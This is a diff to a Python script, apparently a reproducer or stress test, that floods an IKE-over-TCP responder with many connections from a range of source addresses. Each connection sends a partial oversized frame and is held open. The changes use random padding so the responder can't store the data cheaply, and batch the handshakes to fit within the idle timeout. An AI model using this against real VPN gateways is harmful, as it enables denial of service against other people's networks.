@@ -358,18 +358,40 @@ def wait_closed(socks, limit, on_close=None, on_data=None):
 
 def fill(host, port, src, n, nsrc, send, secs):
     base = ipaddress.ip_address(src)
-    part = IKETCP + struct.pack("!H", 2 + 4 + 65000) + (MARKER + bytes(send))[:send]
+    # not zeros: pages of zeros may cost the responder nothing
+    body = bytes(random.Random(send).getrandbits(8) for _ in range(send))
+    part = IKETCP + struct.pack("!H", 2 + 4 + 65000) + (MARKER + body)[:send]
     socks = []
-    for i in range(n):
-        s = connect(host, port, str(base + i % nsrc))
-        try:
-            s.sendall(part)
-        except OSError:
+    t0 = time.monotonic()
+    # 100 handshakes at a time (the listener's backlog is 128): one by one
+    # took 27 s on a loaded machine, near tcp_idle_timeout
+    for b0 in range(0, n, 100):
+        p = select.poll()
+        pending = {}
+        for i in range(b0, min(n, b0 + 100)):
+            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
+            s.bind((str(base + i % nsrc), 0))
+            s.setblocking(False)
+            s.connect_ex((host, port))
+            p.register(s, select.POLLOUT)
+            pending[s.fileno()] = s
+        end = time.monotonic() + 10
+        while pending and time.monotonic() < end:
+            for fd, _ in p.poll(max(0, end - time.monotonic()) * 1000):
+                s = pending.pop(fd)
+                p.unregister(fd)
+                try:
+                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                        raise OSError("connect failed")
+                    s.settimeout(5)
+                    s.sendall(part)
+                    s.setblocking(False)
+                    socks.append(s)
+                except OSError:
+                    s.close()
+        for s in pending.values():
             s.close()
-            continue
-        s.setblocking(False)
-        socks.append(s)
-    print("opened %d of %d" % (len(socks), n), flush=True)
+    print("opened %d of %d in %.1f s" % (len(socks), n, time.monotonic() - t0), flush=True)
     still = wait_closed(socks, secs, on_close=lambda s: s.close())
     print("open %d of %d" % (len(still), n))
     for s in still:
